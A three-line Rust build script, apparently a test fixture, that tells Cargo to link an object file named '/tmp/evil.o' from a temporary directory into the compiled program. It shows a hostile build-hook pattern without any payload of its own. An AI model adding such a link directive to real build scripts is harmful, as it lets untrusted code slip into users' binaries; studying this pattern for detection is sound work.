fn main() {
    println!("cargo:rustc-link-arg=/tmp/evil.o");
}
